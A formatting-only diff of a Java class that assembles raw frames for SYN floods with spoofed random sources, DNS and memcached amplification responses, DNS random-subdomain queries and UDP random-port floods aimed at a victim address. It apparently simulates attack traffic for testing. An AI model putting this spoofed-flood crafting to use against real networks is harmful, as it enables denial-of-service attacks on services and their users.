@@ -21,6 +21,7 @@ public final class FloodFrames {
     public static final int SYN_PORT = 80;
     /** Fixed SYN fields: the tool's TTL, window and option layout (MSS, SACK-permitted, timestamps, NOP, window scale). */
     public static final int SYN_TTL = 64;
+
     public static final int SYN_WINDOW = 64240;
     public static final int SYN_MSS = 1460;
     public static final int SYN_WINDOW_SCALE = 7;
@@ -30,6 +31,7 @@ public final class FloodFrames {
     public static final int RANDOM_LABEL_LENGTH = 12;
     /** The name reflectors answer about in the DNS amplification. */
     public static final String AMPLIFIED_NAME = "example.net";
+
     public static final int DNS_AMPLIFICATION_ANSWERS = 5;
     public static final int TXT_LENGTH = 250;
     /** Bytes of data in each memcached answer. */
@@ -60,70 +62,99 @@ public final class FloodFrames {
 
     private static FrameRecipe synFlood(FloodPath path) {
         byte[] frame = frame(path, Checksums.PROTOCOL_TCP, SYN_TTL, true, synSegment());
-        return new FrameRecipe(FloodKind.SYN_FLOOD, frame, List.of(
-                ipId(), source(path),
-                new RandomNumber(L4, 2, EPHEMERAL_MIN, 65535),
-                new RandomNumber(L4 + 4, 4, 0, 0xffffffffL),      // sequence number
-                new RandomNumber(L4 + 28, 4, 0, 0xffffffffL)));  // timestamp value
+        return new FrameRecipe(
+                FloodKind.SYN_FLOOD,
+                frame,
+                List.of(
+                        ipId(),
+                        source(path),
+                        new RandomNumber(L4, 2, EPHEMERAL_MIN, 65535),
+                        new RandomNumber(L4 + 4, 4, 0, 0xffffffffL), // sequence number
+                        new RandomNumber(L4 + 28, 4, 0, 0xffffffffL))); // timestamp value
     }
 
     /** The SYN flood's tool over IPv6: the same segment, hop limit 64, random global unicast sources. */
     private static FrameRecipe synFlood6(FloodPath path) {
         byte[] frame = frame6(path, Checksums.PROTOCOL_TCP, SYN_TTL, synSegment());
         int l4 = Checksums.L4_OFFSET_V6;
-        return new FrameRecipe(FloodKind.SYN_FLOOD_V6, frame, List.of(
-                new RandomSource6(IP + 8),
-                new RandomNumber(l4, 2, EPHEMERAL_MIN, 65535),
-                new RandomNumber(l4 + 4, 4, 0, 0xffffffffL),
-                new RandomNumber(l4 + 28, 4, 0, 0xffffffffL)));
+        return new FrameRecipe(
+                FloodKind.SYN_FLOOD_V6,
+                frame,
+                List.of(
+                        new RandomSource6(IP + 8),
+                        new RandomNumber(l4, 2, EPHEMERAL_MIN, 65535),
+                        new RandomNumber(l4 + 4, 4, 0, 0xffffffffL),
+                        new RandomNumber(l4 + 28, 4, 0, 0xffffffffL)));
     }
 
     private static FrameRecipe udpRandomPorts6(FloodPath path) {
         byte[] frame = frame6(path, Checksums.PROTOCOL_UDP, 64, udp(0, 0, new byte[UDP_FLOOD_PAYLOAD]));
         int l4 = Checksums.L4_OFFSET_V6;
-        return new FrameRecipe(FloodKind.UDP_RANDOM_PORTS_V6, frame, List.of(
-                new RandomSource6(IP + 8),
-                new RandomNumber(l4, 2, EPHEMERAL_MIN, 65535),
-                new RandomNumber(l4 + 2, 2, 1, 65535)));
+        return new FrameRecipe(
+                FloodKind.UDP_RANDOM_PORTS_V6,
+                frame,
+                List.of(
+                        new RandomSource6(IP + 8),
+                        new RandomNumber(l4, 2, EPHEMERAL_MIN, 65535),
+                        new RandomNumber(l4 + 2, 2, 1, 65535)));
     }
 
     /** The SYN flood's TCP header: random port, sequence and timestamp; fixed window and option layout. */
     private static byte[] synSegment() {
         ByteBuffer tcp = ByteBuffer.allocate(40);
-        tcp.putShort((short) 0).putShort((short) SYN_PORT) // source port: random
-                .putInt(0).putInt(0)                        // sequence: random; acknowledgement 0
-                .put((byte) (10 << 4)).put((byte) 0x02)     // data offset 10 words; SYN
-                .putShort((short) SYN_WINDOW).putShort((short) 0).putShort((short) 0)
+        tcp.putShort((short) 0)
+                .putShort((short) SYN_PORT) // source port: random
+                .putInt(0)
+                .putInt(0) // sequence: random; acknowledgement 0
+                .put((byte) (10 << 4))
+                .put((byte) 0x02) // data offset 10 words; SYN
+                .putShort((short) SYN_WINDOW)
+                .putShort((short) 0)
+                .putShort((short) 0)
                 .put(new byte[] {2, 4, (byte) (SYN_MSS >> 8), (byte) SYN_MSS}) // MSS
-                .put(new byte[] {4, 2})                                         // SACK permitted
-                .put(new byte[] {8, 10}).putInt(0).putInt(0)                    // timestamps: value random, echo 0
-                .put((byte) 1)                                                  // NOP
-                .put(new byte[] {3, 3, (byte) SYN_WINDOW_SCALE});               // window scale
+                .put(new byte[] {4, 2}) // SACK permitted
+                .put(new byte[] {8, 10})
+                .putInt(0)
+                .putInt(0) // timestamps: value random, echo 0
+                .put((byte) 1) // NOP
+                .put(new byte[] {3, 3, (byte) SYN_WINDOW_SCALE}); // window scale
         return tcp.array();
     }
 
     private static FrameRecipe dnsAmplification(FloodPath path) {
         ByteArrayOutputStream dns = new ByteArrayOutputStream();
-        dns.writeBytes(dnsHeader(0x8180, 1, DNS_AMPLIFICATION_ANSWERS, 0, 0)); // response, recursion desired and available
+        dns.writeBytes(
+                dnsHeader(0x8180, 1, DNS_AMPLIFICATION_ANSWERS, 0, 0)); // response, recursion desired and available
         dns.writeBytes(name(AMPLIFIED_NAME));
-        dns.writeBytes(new byte[] {0, (byte) 255, 0, 1});                       // ANY, IN
+        dns.writeBytes(new byte[] {0, (byte) 255, 0, 1}); // ANY, IN
         byte[] text = txt(TXT_LENGTH);
         for (int i = 0; i < DNS_AMPLIFICATION_ANSWERS; i++) {
             ByteBuffer rr = ByteBuffer.allocate(12 + 1 + text.length);
-            rr.putShort((short) 0xc00c).putShort((short) 16).putShort((short) 1).putInt(3600) // name → question, TXT, IN, TTL
-                    .putShort((short) (1 + text.length)).put((byte) text.length).put(text);
+            rr.putShort((short) 0xc00c)
+                    .putShort((short) 16)
+                    .putShort((short) 1)
+                    .putInt(3600) // name → question, TXT, IN, TTL
+                    .putShort((short) (1 + text.length))
+                    .put((byte) text.length)
+                    .put(text);
             dns.writeBytes(rr.array());
         }
         byte[] frame = frame(path, Checksums.PROTOCOL_UDP, REFLECTOR_TTL_MAX, false, udp(53, 0, dns.toByteArray()));
-        return new FrameRecipe(FloodKind.DNS_AMPLIFICATION, frame, List.of(
-                ipId(), reflectorTtl(), source(path),
-                new RandomNumber(L4 + 2, 2, EPHEMERAL_MIN, 65535),  // the victim's "query" port
-                new RandomNumber(L4 + 8, 2, 0, 65535)));           // DNS id
+        return new FrameRecipe(
+                FloodKind.DNS_AMPLIFICATION,
+                frame,
+                List.of(
+                        ipId(),
+                        reflectorTtl(),
+                        source(path),
+                        new RandomNumber(L4 + 2, 2, EPHEMERAL_MIN, 65535), // the victim's "query" port
+                        new RandomNumber(L4 + 8, 2, 0, 65535))); // DNS id
     }
 
     private static FrameRecipe memcachedAmplification(FloodPath path) {
         ByteArrayOutputStream payload = new ByteArrayOutputStream();
-        payload.writeBytes(new byte[] {0, 0, 0, 0, 0, 1, 0, 0}); // UDP frame header: request id (random), sequence 0, 1 datagram
+        payload.writeBytes(
+                new byte[] {0, 0, 0, 0, 0, 1, 0, 0}); // UDP frame header: request id (random), sequence 0, 1 datagram
         payload.writeBytes(("VALUE a 0 " + MEMCACHED_VALUE_LENGTH + "\r\n").getBytes(StandardCharsets.US_ASCII));
         byte[] value = new byte[MEMCACHED_VALUE_LENGTH];
         for (int i = 0; i < value.length; i++) {
@@ -131,11 +162,17 @@ public final class FloodFrames {
         }
         payload.writeBytes(value);
         payload.writeBytes("\r\nEND\r\n".getBytes(StandardCharsets.US_ASCII));
-        byte[] frame = frame(path, Checksums.PROTOCOL_UDP, REFLECTOR_TTL_MAX, false, udp(11211, 0, payload.toByteArray()));
-        return new FrameRecipe(FloodKind.MEMCACHED_AMPLIFICATION, frame, List.of(
-                ipId(), reflectorTtl(), source(path),
-                new RandomNumber(L4 + 2, 2, EPHEMERAL_MIN, 65535),
-                new RandomNumber(L4 + 8, 2, 0, 65535)));           // request id
+        byte[] frame =
+                frame(path, Checksums.PROTOCOL_UDP, REFLECTOR_TTL_MAX, false, udp(11211, 0, payload.toByteArray()));
+        return new FrameRecipe(
+                FloodKind.MEMCACHED_AMPLIFICATION,
+                frame,
+                List.of(
+                        ipId(),
+                        reflectorTtl(),
+                        source(path),
+                        new RandomNumber(L4 + 2, 2, EPHEMERAL_MIN, 65535),
+                        new RandomNumber(L4 + 8, 2, 0, 65535))); // request id
     }
 
     private static FrameRecipe dnsRandomSubdomain(FloodPath path) {
@@ -143,24 +180,33 @@ public final class FloodFrames {
         dns.writeBytes(dnsHeader(0x0100, 1, 0, 0, 1)); // query, recursion desired, one additional (EDNS0)
         String placeholder = "x".repeat(RANDOM_LABEL_LENGTH);
         dns.writeBytes(name(placeholder + "." + VICTIM_ZONE));
-        dns.writeBytes(new byte[] {0, 1, 0, 1});                              // A, IN
-        dns.writeBytes(new byte[] {0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0});     // OPT: root, 4096-byte UDP payload
+        dns.writeBytes(new byte[] {0, 1, 0, 1}); // A, IN
+        dns.writeBytes(new byte[] {0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0}); // OPT: root, 4096-byte UDP payload
         byte[] frame = frame(path, Checksums.PROTOCOL_UDP, REFLECTOR_TTL_MAX, false, udp(0, 53, dns.toByteArray()));
         int labelAt = L4 + 8 + 12 + 1; // after the UDP and DNS headers and the label's length byte
-        return new FrameRecipe(FloodKind.DNS_RANDOM_SUBDOMAIN, frame, List.of(
-                ipId(), reflectorTtl(), source(path),
-                new RandomNumber(L4, 2, EPHEMERAL_MIN, 65535),
-                new RandomNumber(L4 + 8, 2, 0, 65535),
-                new RandomLabel(labelAt, RANDOM_LABEL_LENGTH)));
+        return new FrameRecipe(
+                FloodKind.DNS_RANDOM_SUBDOMAIN,
+                frame,
+                List.of(
+                        ipId(),
+                        reflectorTtl(),
+                        source(path),
+                        new RandomNumber(L4, 2, EPHEMERAL_MIN, 65535),
+                        new RandomNumber(L4 + 8, 2, 0, 65535),
+                        new RandomLabel(labelAt, RANDOM_LABEL_LENGTH)));
     }
 
     private static FrameRecipe udpRandomPorts(FloodPath path) {
         byte[] payload = new byte[UDP_FLOOD_PAYLOAD];
         byte[] frame = frame(path, Checksums.PROTOCOL_UDP, 64, false, udp(0, 0, payload));
-        return new FrameRecipe(FloodKind.UDP_RANDOM_PORTS, frame, List.of(
-                ipId(), source(path),
-                new RandomNumber(L4, 2, EPHEMERAL_MIN, 65535),
-                new RandomNumber(L4 + 2, 2, 1, 65535)));
+        return new FrameRecipe(
+                FloodKind.UDP_RANDOM_PORTS,
+                frame,
+                List.of(
+                        ipId(),
+                        source(path),
+                        new RandomNumber(L4, 2, EPHEMERAL_MIN, 65535),
+                        new RandomNumber(L4 + 2, 2, 1, 65535)));
     }
 
     private static RandomNumber ipId() {
@@ -179,10 +225,15 @@ public final class FloodFrames {
     private static byte[] frame(FloodPath path, int protocol, int ttl, boolean dontFragment, byte[] l4) {
         ByteBuffer f = ByteBuffer.allocate(14 + 20 + l4.length);
         f.put(path.destinationMac().bytes()).put(path.sourceMac().bytes()).putShort((short) 0x0800);
-        f.put((byte) 0x45).put((byte) 0).putShort((short) (20 + l4.length))
-                .putShort((short) 0).putShort((short) (dontFragment ? 0x4000 : 0))
-                .put((byte) ttl).put((byte) protocol).putShort((short) 0)
-                .putInt(0)                                    // source: random
+        f.put((byte) 0x45)
+                .put((byte) 0)
+                .putShort((short) (20 + l4.length))
+                .putShort((short) 0)
+                .putShort((short) (dontFragment ? 0x4000 : 0))
+                .put((byte) ttl)
+                .put((byte) protocol)
+                .putShort((short) 0)
+                .putInt(0) // source: random
                 .put(path.victim().getAddress());
         f.put(l4);
         return f.array();
@@ -192,21 +243,35 @@ public final class FloodFrames {
     private static byte[] frame6(FloodPath path, int nextHeader, int hopLimit, byte[] l4) {
         ByteBuffer f = ByteBuffer.allocate(14 + 40 + l4.length);
         f.put(path.destinationMac().bytes()).put(path.sourceMac().bytes()).putShort((short) Checksums.ETHERTYPE_IPV6);
-        f.putInt(0x60000000).putShort((short) l4.length).put((byte) nextHeader).put((byte) hopLimit)
-                .put(new byte[16])                            // source: random
+        f.putInt(0x60000000)
+                .putShort((short) l4.length)
+                .put((byte) nextHeader)
+                .put((byte) hopLimit)
+                .put(new byte[16]) // source: random
                 .put(path.requireVictim6().getAddress());
         f.put(l4);
         return f.array();
     }
 
     private static byte[] udp(int sourcePort, int destinationPort, byte[] payload) {
-        return ByteBuffer.allocate(8 + payload.length).putShort((short) sourcePort).putShort((short) destinationPort)
-                .putShort((short) (8 + payload.length)).putShort((short) 0).put(payload).array();
+        return ByteBuffer.allocate(8 + payload.length)
+                .putShort((short) sourcePort)
+                .putShort((short) destinationPort)
+                .putShort((short) (8 + payload.length))
+                .putShort((short) 0)
+                .put(payload)
+                .array();
     }
 
     private static byte[] dnsHeader(int flags, int questions, int answers, int authorities, int additionals) {
-        return ByteBuffer.allocate(12).putShort((short) 0).putShort((short) flags).putShort((short) questions)
-                .putShort((short) answers).putShort((short) authorities).putShort((short) additionals).array();
+        return ByteBuffer.allocate(12)
+                .putShort((short) 0)
+                .putShort((short) flags)
+                .putShort((short) questions)
+                .putShort((short) answers)
+                .putShort((short) authorities)
+                .putShort((short) additionals)
+                .array();
     }
 
     /** A DNS name in wire format (length-prefixed labels, then the root). */
